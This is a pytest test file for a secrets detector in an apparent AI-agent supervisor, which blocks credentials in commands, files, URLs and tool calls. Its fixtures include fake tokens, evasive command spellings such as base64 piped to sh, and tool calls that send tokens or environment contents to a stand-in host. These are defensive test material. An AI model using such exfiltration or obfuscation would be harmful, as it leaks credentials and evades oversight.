"""The ``secrets`` kind: known formats and entropy, by field, never echoing the secret."""

from __future__ import annotations

import base64
import functools
import json
import statistics
import time
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from pydantic import ValidationError

from specialists import secrets
from specialists.understand.diffs import parse_unified_diff
from supervisor.models import Action, Context, SpecialistResult, Verdict
from supervisor.plugins import KindRegistry
from supervisor.specialist import Execution, SpecialistKind
from supervisor.taxonomy import Entry, load_taxonomy

CTX = Context()
GITHUB = "ghp_" + "aB3dE5gH7jK9mN1pQ3sT5vW7yZ9bC1eF3hJ5"  # 40 characters, the ghp_ format
RANDOM = "q8Zr3kP0vXw9LmT2bN7cYd4FhJ6sAe1G"  # 32 random-looking base64 characters
HEX_KEY = "5f4dcc3b5aa765d61d8327deb882cf99"


def kind() -> SpecialistKind:
    (registered,) = secrets.supervisor_register_kinds()
    return registered


def make_entry(default_verdict: str = "block") -> Entry:
    return Entry.model_validate(
        {
            "id": "test_secrets",
            "title": "A secrets test entry",
            "description": "Objects to a credential in an action.",
            "example": {"summary": "An agent committed a token.", "source": "https://example.org"},
            "severity": "high",
            "default_verdict": default_verdict,
            "references": ["CWE-798"],
            "detection": "deterministic",
            "applies_to": {"action_types": ["*"]},
            "specialist": {"kind": "secrets", "config": {}},
        }
    )


def build(config: dict[str, Any] | None = None, default_verdict: str = "block"):
    k = kind()
    specialist = k.build(make_entry(default_verdict), k.config_model.model_validate(config or {}))
    assert isinstance(specialist, secrets.SecretsSpecialist)
    return specialist


def shell(command: str) -> Action:
    return Action(type="shell", args={"command": command})


def write(path: str, content: str) -> Action:
    return Action(type="file_write", args={"path": path, "content": content})


def edit(path: str, old: str, new: str) -> Action:
    return Action(type="file_edit", args={"path": path, "old": old, "new": new})


def http(url: str, headers: Any = None, body: Any = None) -> Action:
    args: dict[str, Any] = {"method": "POST", "url": url}
    if headers is not None:
        args["headers"] = headers
    if body is not None:
        args["body"] = body
    return Action(type="http", args=args)


def dumped(result: SpecialistResult) -> str:
    return json.dumps(result.model_dump(mode="json"))


def assert_never_echoed(result: SpecialistResult, *values: str) -> None:
    text = dumped(result)
    for value in values:
        assert value not in text
        assert value[4:] not in text  # not even past the shown prefix


# -- registration and config ----------------------------------------------------------------


def test_registers_the_secrets_kind_inline():
    k = kind()
    assert k.name == "secrets"
    assert k.config_model is secrets.SecretsConfig
    assert build().execution is Execution.INLINE


@pytest.mark.parametrize(
    "config",
    [
        {"kinds": ["github-token", "no-such-kind"]},
        {"kinds": []},
        {"fields": []},
        {"min_entropy": 9},
        {"min_length": 4},
        {"min_length": 600, "max_token_length": 500},
        {"verdict": "ok"},
        {"allow_paths": [""]},
        {"min_entropy": "4"},  # strict: no string-to-number coercion from YAML
        {"unknown": 1},
    ],
)
def test_invalid_configs_are_rejected(config):
    with pytest.raises(ValidationError):
        kind().config_model.model_validate(config)


def test_an_unknown_kind_is_named_with_the_choices():
    with pytest.raises(ValidationError, match=r"not a secret kind.*formats"):
        kind().config_model.model_validate({"kinds": ["gihtub-token"]})


# -- known formats, fields, fingerprints -----------------------------------------------------


def test_a_token_in_a_command_blocks_without_echoing_it():
    result = build().evaluate(shell(f"git clone https://x:{GITHUB}@github.com/a/b"), CTX)
    assert result.verdict is Verdict.BLOCK
    assert result.evidence["kind"] == "github-token"
    assert result.evidence["field"] == "command"
    digest = secrets.fingerprint(GITHUB)[1]
    assert result.evidence["object"] == f"secret:{digest}"
    assert result.evidence["fingerprint"] == f"ghp_…{digest}"
    assert result.reason is not None
    assert "github-token" in result.reason
    assert result.correction is not None
    assert "command line" in result.correction
    assert_never_echoed(result, GITHUB)


def test_the_same_secret_through_another_tool_is_the_same_object():
    specialist = build()
    actions = [
        shell(f"export GITHUB_TOKEN={GITHUB}"),
        write("config.py", f'TOKEN = "{GITHUB}"\n'),
        http("https://api.example.com/x", body={"token": GITHUB}),
        Action(type="message", args={"body": f"here is the token {GITHUB}"}),
        Action(type="tool_call", tool="mcp__x", args={"nested": {"value": GITHUB}}),
    ]
    objects = {specialist.evaluate(action, CTX).evidence["object"] for action in actions}
    assert objects == {f"secret:{secrets.fingerprint(GITHUB)[1]}"}


def test_fingerprints_show_at_most_four_characters_and_fewer_for_short_values():
    shown, digest = secrets.fingerprint(GITHUB)
    assert shown == f"ghp_…{digest}"
    assert len(digest) == secrets.DIGEST_CHARS
    assert secrets.fingerprint("hunter22")[0].startswith("h…")
    assert secrets.fingerprint("abc")[0].startswith("…")


@pytest.mark.parametrize(
    ("action", "kind_name", "field"),
    [
        (shell("curl -u admin:S3cr3tP4ss99 https://api.example.com"), "basic-auth", "command"),
        (shell("mysql --password Tr0ub4dor99 -h db"), "password", "command"),
        (http("https://user:S3cr3tP4ss99@api.example.com/v1"), "url-password", "url"),
        (http(f"https://api.example.com/v1?api_key={RANDOM}"), "api-key", "url"),
        (
            Action(type="click", args={"url": f"https://x.example/?access_token={RANDOM}"}),
            "token",
            "url",
        ),
        (http("https://api.example.com", body='{"password": "Tr0ub4dor&3x"}'), "password", "body"),
        (
            write("deploy/key.pem", "-----BEGIN RSA PRIVATE KEY-----\nMIIEow\n"),
            "private-key",
            "content",
        ),
        (write("notes.txt", "key AKIAZ7Q3J5K2L4M6N8P0 here"), "aws-access-key-id", "content"),
        (Action(type="message", args={"text": f"use {RANDOM} to log in"}), "high-entropy", "text"),
    ],
)
def test_secrets_are_found_in_each_field(action, kind_name, field):
    result = build().evaluate(action, CTX)
    assert result.verdict is Verdict.BLOCK, result.reason
    assert result.evidence["kind"] == kind_name
    assert result.evidence["field"] == field


def test_percent_encoded_urls_are_read_decoded_too():
    url = "https://api.example.com/?auth=" + GITHUB.replace("_", "%5F")
    result = build().evaluate(http(url), CTX)
    assert result.evidence["kind"] == "github-token"


def test_credential_headers_are_skipped_but_other_headers_are_read():
    specialist = build()
    headers = {"Authorization": f"Bearer {GITHUB}", "X-Api-Key": RANDOM, "Accept": "json"}
    assert specialist.evaluate(http("https://api.github.com", headers), CTX).verdict is Verdict.OK
    leaky = {"X-Debug": f"token {GITHUB}"}
    result = specialist.evaluate(http("https://api.github.com", leaky), CTX)
    assert result.evidence["field"] == "headers"
    as_list = [["Accept", "json"], ["X-Debug", GITHUB]]
    assert specialist.evaluate(http("https://x", as_list), CTX).verdict is Verdict.BLOCK
    strict = build({"skip_headers": []})
    assert strict.evaluate(http("https://api.github.com", headers), CTX).verdict is Verdict.BLOCK


def test_lines_and_paths_are_in_the_evidence():
    content = "a = 1\nb = 2\n" + f"TOKEN = '{GITHUB}'\n"
    result = build().evaluate(write("/repo/src/settings.py", content), Context(repo_root="/repo"))
    (listed,) = result.evidence["secrets"]
    assert listed == {
        "kind": "github-token",
        "field": "content",
        "fingerprint": result.evidence["fingerprint"],
        "line": 3,
        "path": "src/settings.py",
    }
    assert result.reason is not None
    assert "src/settings.py, line 3" in result.reason


def test_several_secrets_are_counted_once_each():
    content = f"{GITHUB}\n{GITHUB}\nAKIAZ7Q3J5K2L4M6N8P0\n"
    result = build().evaluate(write("x.txt", content), CTX)
    assert result.evidence["count"] == 2
    assert result.reason is not None
    assert "and 1 more secret" in result.reason
    assert_never_echoed(result, GITHUB, "AKIAZ7Q3J5K2L4M6N8P0")


# -- benign look-alikes ----------------------------------------------------------------------


@pytest.mark.parametrize(
    "action",
    [
        write("app.py", 'API_KEY = os.environ["API_KEY"]\ntoken = self.token\n'),
        write("app.py", "password: str = field(repr=False)\nif token == expected_token:\n"),
        write("app.py", "def login(password=None):\n    api_key = settings.API_KEY\n"),
        shell("pip install scikit-learn sk-learn-contrib"),
        write("README.md", "We use sk-learn (scikit-learn) for the task-runner."),
        shell("git checkout 3f786850e387550fdab836ed7e6dc881de23001b"),
        write("notes.md", "fixed in commit 3f786850e387550fdab836ed7e6dc881de23001b"),
        write("ids.json", '{"id": "550e8400-e29b-41d4-a716-446655440000"}'),
        write(
            "poetry.lock",
            'hash = "sha256:2c26b46b68ffc68ff99b453c1d30413413422d706483bfa0f98a5e886266e7ae"',
        ),
        write(
            "web/package-lock.json",
            '"integrity": "sha512-' + "Ab3De5Gh7Jk9Mn1Pq3St5Vw7Yz9Bc1Ef3Hj5" * 2 + '=="',
        ),
        write("go.sum", "golang.org/x/net v0.1.0 h1:hZ/3BmG0fT9oE2qZ8rYk5mH1nX7cV4bL6pW0sJ2dQ9u="),
        write("requirements.txt", "requests==2.31 --hash=sha256:" + "0" * 8 + HEX_KEY * 2),
        write("page.html", '<img src="data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAAB">'),
        write("a.py", "from .types.v2chat_request_safety_mode import V2ChatRequestSafetyMode\n"),
        write("a.py", '__all__ = ["WebSearchTool20250305Param", "BetaBase64PDFSourceParam"]\n'),
        shell("curl -H 'Authorization: Bearer $TOKEN' https://api.example.com"),
        shell("export TOKEN=${GITHUB_TOKEN} && deploy --token <your-token>"),
        write(
            ".env.example",
            "API_KEY=changeme\nPASSWORD=<your-password>\nAWS_KEY=AKIAIOSFODNN7EXAMPLE\n",
        ),
        write(".env.example", "STRIPE_WEBHOOK_SECRET=whsec_replace_me\nDB_PASS=fill-me-in\n"),
        write("cfg.yaml", "password: ${DB_PASSWORD}\ntoken: '{{ secrets.TOKEN }}'\n"),
        write(
            "docs.md",
            "See https://github.com/python/cpython/blob/73906d5c908c1e0b73c5436faeff7d93698fc074/Lib/ast.py",
        ),
        write("x.py", "src/components/HeaderNavigationBar2.tsx\n"),
        http("https://api.example.com/v1/users?page=2&sort=created_at"),
        shell("echo 'The password is stored in the vault.'"),
        write("clean.sh", 'rm -rf "${PWD:?}/dist" "${PWD:?}/.cache"\n'),
        shell('psql -U "${PGPASSWORD:?set PGPASSWORD first}" -c "select 1"'),
    ],
)
def test_benign_look_alikes_pass(action):
    result = build().evaluate(action, CTX)
    assert result.verdict is Verdict.OK, result.reason


def test_hex_counts_only_after_a_sensitive_name():
    specialist = build()
    assert specialist.evaluate(write("x.txt", f"digest {HEX_KEY}"), CTX).verdict is Verdict.OK
    keyed = specialist.evaluate(write("x.txt", f"STRIPE_KEY={HEX_KEY}"), CTX)
    assert keyed.verdict is Verdict.BLOCK
    assert keyed.evidence["kind"] == "high-entropy"


def test_in_source_code_only_quoted_values_count():
    specialist = build()
    code = specialist.evaluate(write("app.py", "password = hunter2\n"), CTX)
    assert code.verdict is Verdict.OK  # a variable named hunter2
    config = specialist.evaluate(write("app.ini", "password = Hunter2isBack\n"), CTX)
    assert config.verdict is Verdict.BLOCK
    quoted = specialist.evaluate(write("app.py", 'password = "Hunter2isBack"\n'), CTX)
    assert quoted.verdict is Verdict.BLOCK


# -- edits are judged by what they add -------------------------------------------------------


def test_an_edit_is_judged_by_what_it_adds():
    specialist = build()
    old = f'TOKEN = "{GITHUB}"\nDEBUG = False\n'
    kept = specialist.evaluate(edit("s.py", old, old.replace("False", "True")), CTX)
    assert kept.verdict is Verdict.OK
    added = specialist.evaluate(edit("s.py", "DEBUG = False", f'KEY = "{RANDOM}"'), CTX)
    assert added.verdict is Verdict.BLOCK
    assert added.evidence["field"] == "new"


def test_a_diff_is_judged_by_its_added_lines():
    diff = (
        "--- a/s.py\n+++ b/s.py\n@@ -1,2 +1,2 @@\n"
        f'-TOKEN = "{GITHUB}"\n+TOKEN = os.environ["TOKEN"]\n DEBUG = False\n'
    )
    specialist = build()
    edit_action = Action(type="file_edit", args={"path": "s.py", "diff": diff})
    assert specialist.evaluate(edit_action, CTX).verdict is Verdict.OK
    adding = f'--- a/s.py\n+++ b/s.py\n@@ -1,2 +1,2 @@\n-DEBUG = True\n+KEY = "{GITHUB}"\n x\n'
    result = specialist.evaluate(Action(type="file_edit", args={"diff": adding}), CTX)
    assert result.verdict is Verdict.BLOCK
    assert result.evidence["secrets"][0]["path"] == "s.py"  # type: ignore[index]


# -- config ----------------------------------------------------------------------------------


def test_allow_paths_exempt_fixtures_and_real_env_files():
    specialist = build({"allow_paths": ["tests/fixtures/**", "**/.env", ".env.local"]})
    for path in ("tests/fixtures/keys/github.txt", ".env", "app/.env", ".env.local"):
        assert specialist.evaluate(write(path, GITHUB), CTX).verdict is Verdict.OK, path
    for path in (".env.example", "tests/test_x.py", "src/fixtures.py"):
        assert specialist.evaluate(write(path, GITHUB), CTX).verdict is Verdict.BLOCK, path
    absolute = write("/work/repo/tests/fixtures/k.txt", GITHUB)
    assert specialist.evaluate(absolute, Context(repo_root="/work/repo")).verdict is Verdict.OK


def test_kinds_select_what_is_reported():
    formats = build({"kinds": ["formats"]})
    assert formats.evaluate(shell(f"run --key {RANDOM}"), CTX).verdict is Verdict.OK
    assert formats.evaluate(shell(f"run {GITHUB}"), CTX).verdict is Verdict.BLOCK
    entropy = build({"kinds": ["high-entropy"]})
    assert entropy.evaluate(shell(f"run {RANDOM}"), CTX).verdict is Verdict.BLOCK
    assert entropy.evaluate(shell("mysql --password Tr0ub4dor99"), CTX).verdict is Verdict.OK
    one = build({"kinds": ["aws-access-key-id"]})
    assert one.evaluate(shell(f"run {GITHUB}"), CTX).verdict is Verdict.OK


def test_min_entropy_and_min_length_tune_the_entropy_detector():
    assert build({"min_entropy": 6.0}).evaluate(shell(f"x {RANDOM}"), CTX).verdict is Verdict.OK
    assert build({"min_length": 40}).evaluate(shell(f"x {RANDOM}"), CTX).verdict is Verdict.OK
    short = RANDOM[:16]
    assert build().evaluate(shell(f"x {short}"), CTX).verdict is Verdict.OK
    assert build({"min_length": 16}).evaluate(shell(f"x {short}"), CTX).verdict is Verdict.BLOCK


def test_entropy_skip_paths_keep_known_formats():
    specialist = build()
    lock = "dependencies:\n  x: " + RANDOM + "\n"
    assert specialist.evaluate(write("yarn.lock", lock), CTX).verdict is Verdict.OK
    assert specialist.evaluate(write("yarn.lock", GITHUB), CTX).verdict is Verdict.BLOCK


def test_fields_and_verdict_are_configurable():
    specialist = build({"fields": ["url"], "verdict": "nudge"})
    assert specialist.evaluate(shell(f"echo {GITHUB}"), CTX) is SpecialistResult.refuse()
    result = specialist.evaluate(http(f"https://x.example/?token={GITHUB}"), CTX)
    assert result.verdict is Verdict.NUDGE


def test_absent_fields_refuse_and_present_empty_fields_are_ok():
    specialist = build()
    assert specialist.evaluate(Action(type="shell", args={}), CTX) is SpecialistResult.refuse()
    assert specialist.evaluate(Action(type="custom"), CTX) is SpecialistResult.refuse()
    assert specialist.evaluate(shell(""), CTX) is SpecialistResult.ok()


def test_input_is_capped_and_says_so():
    specialist = build({"max_input_chars": 1000})
    late = write("x.txt", "x" * 1000 + GITHUB)
    assert specialist.evaluate(late, CTX).verdict is Verdict.OK
    early = specialist.evaluate(write("x.txt", GITHUB + " and more" * 300), CTX)
    assert early.evidence["truncated"] is True


def test_existing_redaction_markers_are_not_mistaken_for_secrets():
    text = "log: password=[REDACTED:password] then password=S3cretValue99"
    result = build().evaluate(write("log.txt", text), CTX)
    assert result.verdict is Verdict.BLOCK
    assert result.evidence["count"] == 1
    assert result.evidence["fingerprint"] == secrets.fingerprint("S3cretValue99")[0]


# -- helpers ---------------------------------------------------------------------------------


def test_scan_spans_point_at_the_secrets():
    text = f"a {GITHUB} b password={RANDOM}x c"
    hits = secrets.scan(text)
    assert [text[h.start : h.end] for h in hits] == [GITHUB, RANDOM + "x"]
    assert [h.kind for h in hits] == ["github-token", "password"]


def test_adjacent_secrets_separated_by_one_character_align():
    second = "ghp_" + "Zz9Yy8Xx7Ww6Vv5Uu4Tt3Ss2Rr1Qq0Pp9Oo8Nn"
    text = f"{GITHUB}_{second}"
    hits = secrets.scan(text)
    assert [text[h.start : h.end] for h in hits] == [GITHUB, second]


def test_shannon_entropy():
    assert secrets.shannon_entropy("") == 0.0
    assert secrets.shannon_entropy("aaaa") == 0.0
    assert secrets.shannon_entropy("abcd") == pytest.approx(2.0)
    assert secrets.shannon_entropy("ab" * 2000) == pytest.approx(1.0)


@pytest.mark.parametrize(
    ("pattern", "path", "matches"),
    [
        ("tests/**", "tests/unit/test_x.py", True),
        ("tests/**", "/home/me/repo/tests/x.py", True),
        ("tests/**", "src/tests_helpers.py", False),
        ("*.lock", "deep/dir/poetry.lock", True),
        ("/build/*", "build/x", True),
        ("/build/*", "src/build/x", False),
        ("**/.env", ".env", True),
        ("docs/", "docs/a/b.md", True),
        ("test_?.py", "test_a.py", True),
        ("[!a]*.py", "b.py", True),
        ("[!a]*.py", "a.py", False),
    ],
)
def test_path_globs(pattern, path, matches):
    assert secrets.PathMatcher([pattern])(path) is matches


def test_unified_diffs_are_parsed_per_file_and_hunk():
    diff = (
        "diff --git a/x.py b/x.py\n--- a/x.py\n+++ b/x.py\n@@ -10,3 +10,3 @@ def f():\n"
        " a\n-b\n+c\n d\n--- /dev/null\n+++ b/new.py\n@@ -0,0 +1,2 @@\n+x\n+y\n"
    )
    first, second = parse_unified_diff(diff)
    assert (first.path, first.old_path) == ("x.py", "x.py")
    (hunk,) = first.hunks
    assert (hunk.old_start, hunk.new_start) == (10, 10)
    assert (hunk.old, hunk.new) == ("a\nb\nd", "a\nc\nd")
    assert (hunk.removed, hunk.added) == ("b", "c")
    assert (second.old_path, second.path) == (None, "new.py")
    assert second.hunks[0].new == "x\ny"
    assert parse_unified_diff("not a diff") == []


# -- the taxonomy entries these kinds serve ---------------------------------------------------


CODING_ENTRIES = """
schema_version: 1
id: coding_secrets_excerpt
entries:
  - id: secret_committed_to_vcs
    title: Credentials written where version control carries them
    description: A literal credential written into source, config or example files.
    example:
      summary: >-
        An agent wrote live Gmail and Maps credentials into config files and pushed them to a
        public repository; another copied real values from .env.local into env.example.
      source: https://github.com/anthropics/claude-code/issues/2142
    severity: high
    default_verdict: block
    references: [CWE-798, CWE-540, T1552.001, LLM02]
    detection: deterministic
    applies_to:
      action_types: [file_write, file_edit]
    specialist:
      kind: secrets
      config:
        allow_paths: ["**/.env", "**/.env.local", "**/.env.*.local", "tests/fixtures/**"]
    correction:
      first: >-
        Do not write the credential into a file that is committed. Read it from the
        environment (os.environ["NAME"]) or a secrets manager, and put the real value only
        in an ignored .env file.
  - id: secret_in_url_or_argv
    title: Credentials in a URL or on a command line
    description: Tokens in clone URLs or query strings, passwords as command-line arguments.
    example:
      summary: >-
        A personal access token embedded in a clone URL became the origin remote, and a
        routine git remote -v printed it into the execution logs.
      source: https://github.com/preloop/preloop/issues/173
    severity: high
    default_verdict: nudge
    references: [CWE-598, CWE-214, T1552]
    detection: deterministic
    applies_to:
      action_types: [shell, git, http, click]
    specialist:
      kind: secrets
      config:
        fields: [command, url]
    correction:
      first: >-
        Keep the credential out of the URL and the command line: use a credential helper,
        an environment variable or a token file that the tool reads.
      second: >-
        You again put a credential where logs and shell history keep it. Remove it from the
        command or URL, and pass it through the environment or a credential helper.
    escalate_after: 2
"""


def test_the_coding_entries_load_and_build(tmp_path):
    path = tmp_path / "coding_secrets.yaml"
    path.write_text(CODING_ENTRIES)
    taxonomy = load_taxonomy([path], KindRegistry({"secrets": kind()}))
    assert [e.id for e in taxonomy] == ["secret_committed_to_vcs", "secret_in_url_or_argv"]
    committed = kind().build(
        taxonomy["secret_committed_to_vcs"], taxonomy.configs["secret_committed_to_vcs"]
    )
    assert (
        committed.evaluate(write("src/app.py", f'KEY = "{GITHUB}"'), CTX).verdict is Verdict.BLOCK
    )
    assert committed.evaluate(write(".env", f"KEY={GITHUB}"), CTX).verdict is Verdict.OK
    argv = kind().build(
        taxonomy["secret_in_url_or_argv"], taxonomy.configs["secret_in_url_or_argv"]
    )
    assert (
        argv.evaluate(shell(f"git push https://{GITHUB}@github.com/a/b"), CTX).verdict
        is Verdict.NUDGE
    )


# -- robustness ------------------------------------------------------------------------------


@functools.cache
def _shared() -> secrets.SecretsSpecialist:
    return build()


@settings(max_examples=300, deadline=None)
@given(
    st.text(max_size=400),
    st.sampled_from(["shell", "file_write", "file_edit", "http", "message", "x"]),
)
def test_arbitrary_text_never_crashes(text, action_type):
    args = {
        "command": text,
        "content": text,
        "path": "a.py" if len(text) % 2 else "notes.txt",
        "old": text[::2],
        "new": text,
        "diff": text,
        "url": text,
        "headers": {"X": text},
        "body": text,
        "text": text,
    }
    result = _shared().evaluate(Action(type=action_type, args=args), CTX)
    assert result.verdict in (Verdict.OK, Verdict.BLOCK, Verdict.REFUSE)


@settings(max_examples=200, deadline=None)
@given(st.binary(max_size=600))
def test_bytes_as_text_never_crash_and_hits_are_inside_the_text(data):
    text = data.decode("latin-1")
    for hit in secrets.scan(text):
        assert 0 <= hit.start < hit.end <= len(text)
    result = _shared().evaluate(write("blob.bin", text), CTX)
    assert result.verdict in (Verdict.OK, Verdict.BLOCK)


@settings(max_examples=200, deadline=None)
@given(st.text(max_size=80), st.text(max_size=80))
def test_a_planted_token_is_found_and_never_echoed(prefix, suffix):
    text = f"{prefix} {GITHUB} {suffix}"
    result = _shared().evaluate(write("x.txt", text), CTX)
    assert result.verdict is Verdict.BLOCK
    assert GITHUB[4:] not in dumped(result)


def test_timing_of_a_64_kb_file_write(record_property):
    """Reports (does not assert) how long a 64 KB file write takes; -s prints it."""
    specialist = build()
    line = 'def handler_{0}(request):\n    return {{"id": {0}, "status": "ok"}}\n'
    content = "".join(line.format(i) for i in range(1200))[:65536]
    blob = base64.b64encode(bytes(range(256)) * 192).decode()[:65536]
    figures = {}
    for name, text in (("python", content), ("base64", blob)):
        samples = []
        for _ in range(30):
            began = time.perf_counter()
            specialist.evaluate(write(f"x.{name}", text), CTX)
            samples.append((time.perf_counter() - began) * 1000)
        figures[name] = (statistics.median(samples), max(samples))
        record_property(f"secrets_64kb_{name}_p50_ms", round(figures[name][0], 2))
    print(f"\nsecrets, 64 KB file write: {figures}")


# --------------------------------------------------------------------------------------
# Passwords given to database clients and sshpass as arguments


@pytest.mark.parametrize(
    "command",
    [
        "mysql -u root -pS3cr3tPassw0rd shop",
        "mysqldump --password=hunter22x shop > dump.sql",
        "cd db && /usr/bin/mariadb -h db -P3306 -p'my pass 1' shop",
        "sshpass -p Tr0ub4dor ssh deploy@host",
        "docker exec db mysql -uroot -pQw3rty9z -e 'show tables'",
    ],
)
def test_a_password_given_to_a_client_is_a_credential_in_argv(command: str):
    result = build({"fields": ["command"], "kinds": ["places"]}, "nudge").evaluate(
        shell(command), CTX
    )
    assert result.verdict is Verdict.NUDGE, command
    assert result.evidence["kind"] == "cli-password"
    value = command.split("-p", 1)[1] if "--password=" not in command else "hunter22x"
    assert_never_echoed(result, value.split()[0].strip("'") if "'" not in value else "my pass 1")


@pytest.mark.parametrize(
    "command",
    [
        "mysql -u root -p shop",  # prompts
        'mysql -u root -p"$MYSQL_PWD" shop',  # a reference
        "mysql -u root --password shop",
        "mysql -uroot -proot",  # a placeholder word
        "mysql -h db -P3306 shop",
        "sshpass -e ssh host",
        "grep -p foo mysql.log",
        "echo mysql",
    ],
)
def test_client_passwords_benign(command: str):
    result = build({"fields": ["command"], "kinds": ["places"]}, "nudge").evaluate(
        shell(command), CTX
    )
    assert result.verdict is Verdict.OK, command


@pytest.mark.parametrize(
    "command",
    [
        "m''ysql -u root -pS3cr3tPassw0rd shop",
        'mysql -u root -p"$(echo UzNjcjN0UGFzc3cwcmQ= | base64 -d)" shop',
        "P=S3cr3tPassw0rd; mysql -u root -p$P shop",
        "echo "
        + base64.b64encode(b"mysql -u root -pS3cr3tPassw0rd shop").decode()
        + " | base64 -d | sh",
        "sh -c 'cd /srv && \"my\"sql -u root -pS3cr3tPassw0rd shop'",
        "python3 -c 'import os; os.system(\"mysql -u root -pS3cr3tPassw0rd shop\")'",
    ],
)
def test_a_password_is_found_however_the_command_is_spelled(command: str):
    result = build({"fields": ["command"], "kinds": ["places"]}, "nudge").evaluate(
        shell(command), CTX
    )
    assert result.verdict is Verdict.NUDGE, command
    assert result.evidence["kind"] == "cli-password"
    assert_never_echoed(result, "S3cr3tPassw0rd")


def test_a_variable_from_the_environment_is_not_a_password_on_the_line():
    context = CTX.model_copy(update={"env": {"DB_PASSWORD": "S3cr3tPassw0rd"}})
    result = build({"fields": ["command"], "kinds": ["places"]}, "nudge").evaluate(
        shell('mysql -u root -p"$DB_PASSWORD" shop'), context
    )
    assert result.verdict is Verdict.OK


def test_cli_password_is_its_own_kind():
    assert "cli-password" in secrets.KIND_GROUPS["places"]
    only_formats = build({"fields": ["command"], "kinds": ["formats"]})
    assert only_formats.evaluate(shell("mysql -pS3cr3tPassw0rd"), CTX).verdict is Verdict.OK
    assert (
        build({"kinds": ["cli-password"]}).evaluate(shell("mysql -pS3cr3tPassw0rd"), CTX).verdict
        is Verdict.BLOCK
    )


def test_a_lone_surrogate_beside_a_cli_password_neither_crashes_nor_shifts_it():
    from specialists.secrets import scan

    text = "\ud800 mysql -pS3cr3tX -e 'select 1'"
    (hit,) = [h for h in scan(text) if h.kind == "cli-password"]
    assert text[hit.start : hit.end] == "S3cr3tX"
    assert scan("\ud800") == []


@pytest.mark.parametrize(
    "command",
    [
        "sh -c 'mysql -u root -pS3cr3tPassw0rd shop'",
        'CMD="mysql -u root -pS3cr3tPassw0rd shop"; eval "$CMD"',
        'bash -c "mysqldump --password=S3cr3tPassw0rd shop > dump.sql"',
    ],
)
def test_a_cli_password_inside_quotes_or_an_assignment_is_found(command):
    result = build({"kinds": ["cli-password"]}).evaluate(shell(command), CTX)
    assert result.verdict is Verdict.BLOCK, command  # the test build default


def test_a_client_name_inside_a_word_is_not_a_client():
    assert (
        build({"kinds": ["cli-password"]})
        .evaluate(shell("echo notmysql -pS3cr3tPassw0rd"), CTX)
        .verdict
        is Verdict.OK
    )


def test_a_path_matcher_compiles_its_patterns_on_the_first_path(monkeypatch) -> None:
    compiled: list[str] = []
    original = secrets.re.compile

    def counted(pattern: str, *args: object) -> object:
        compiled.append(pattern)
        return original(pattern, *args)

    monkeypatch.setattr(secrets.re, "compile", counted)
    matcher = secrets.PathMatcher(["tests/**", "/docs/*.md"])
    assert compiled == []
    assert [matcher(p) for p in ("src/tests/x.py", "docs/a.md", "src/docs/a.md")] == [
        True,
        True,
        False,
    ]
    assert len(compiled) == 1
    assert not secrets.PathMatcher([])("x")
    assert len(compiled) == 1


def test_every_kind_is_in_exactly_one_group_as_redact_names_it():
    groups = [secrets.KIND_GROUPS[g] for g in ("formats", "places", "names")]
    for kind in secrets.SECRET_KINDS:
        assert sum(kind in group for group in groups) == 1, kind
    assert set(secrets.SECRET_KINDS) >= secrets.FORMAT_KINDS
    assert "token" in secrets.KIND_GROUPS["names"]  # token = ... is known by its name
    assert "slack-token" in secrets.FORMAT_KINDS  # xoxb-... is known by its shape


def test_a_token_variable_assigned_code_in_source_is_not_a_secret():
    text = "def test_unsigned():\n    token = jwt.encode({'sub': 1}, key=None, algorithm='none')\n"
    assert secrets.scan(text, quoted_names_only=True) == []
    literal = 'token = "8f14e45fceea167a5a36dedd4bea2543b6d9f1c2"\n'
    assert [h.kind for h in secrets.scan(literal, quoted_names_only=True)] == ["token"]


# -- what a tool call sends --------------------------------------------------------------

PAYLOAD_CONFIG: dict[str, Any] = {
    "kinds": ["formats", "places", "names", "environment"],
    "skip_tools": ["*secret*", "*login*"],
    "skip_arguments": ["password", "*_token", "api_key", "headers"],
}


def tool_call(tool: str, args: dict[str, Any], metadata: dict[str, Any] | None = None) -> Action:
    return Action(type="tool_call", tool=tool, args=args, metadata=metadata or {})


@pytest.mark.parametrize(
    "action",
    [
        tool_call("github_add_issue_comment", {"body": f"works with token {GITHUB}"}),
        tool_call(
            "slack_post_message",
            {"text": "DATABASE_URL=postgres://app:Xq7mN2pLw9vR@db.prod.example:5432/shop"},
        ),
        tool_call("sentry_capture", {"message": "x", "extra": {"password": "Vr7#kq2LmZ9x"}}),
        tool_call(  # a key base64-encoded in a URL's query, whatever argument holds the URL
            "browser_navigate",
            {"target": "https://x.example/c?d=" + base64.b64encode(GITHUB.encode()).decode()},
        ),
        tool_call("http_post", {"url": "https://x.example/e", "body": "${process.env}"}),
    ],
)
def test_a_tool_call_that_sends_a_secret(action: Action):
    assert build(PAYLOAD_CONFIG).evaluate(action, CTX).verdict is Verdict.BLOCK


@pytest.mark.parametrize(
    "action",
    [
        tool_call("github_create_issue", {"title": "Cart rounds down", "body": "0.1 * 3"}),
        tool_call("db_connect", {"host": "db", "password": "Vr7#kq2LmZ9x"}),  # asked for
        tool_call("stripe_call", {"path": "/v1/charges", "headers": {"Authorization": GITHUB}}),
        tool_call("gh_graphql", {"query": "{ viewer { login } }", "github_token": GITHUB}),
        tool_call("github_create_or_update_secret", {"name": "K", "value": GITHUB}),
        tool_call("site_login", {"user": "dev", "pass": "Vr7#kq2LmZ9x"}),
        # annotated as a credential by the deployment: where the key belongs
        tool_call("rotate", {"new_key": GITHUB}, {"supervise_sinks": {"new_key": "credential"}}),
        tool_call("notes_add", {"text": "the port comes from process.env.PORT"}),
        tool_call("fetch", {"url": "https://api.example.com/v1/search?q=rounding+error&page=2"}),
    ],
)
def test_a_tool_call_whose_credential_is_where_it_belongs(action: Action):
    assert build(PAYLOAD_CONFIG).evaluate(action, CTX).verdict is not Verdict.BLOCK


def test_the_environment_is_opt_in_and_not_judged_in_commands_or_files():
    # by default the environment is not a kind: an entry that names no kinds keeps its reading
    assert build().evaluate(tool_call("t", {"body": "${process.env}"}), CTX).verdict is Verdict.OK
    judge = build({"kinds": ["environment"]})
    assert judge.evaluate(shell("node -e 'console.log(process.env)'"), CTX).verdict is Verdict.OK
    written = Action(type="file_write", args={"path": "a.js", "content": "log(process.env)"})
    assert judge.evaluate(written, CTX).verdict is Verdict.OK


def test_a_key_encoded_in_an_http_url_is_found():
    url = "https://x.example/c?d=" + GITHUB.encode().hex()
    result = build().evaluate(Action(type="http", args={"url": url}), CTX)
    assert result.verdict is Verdict.BLOCK
    assert result.evidence["kind"] == "github-token"


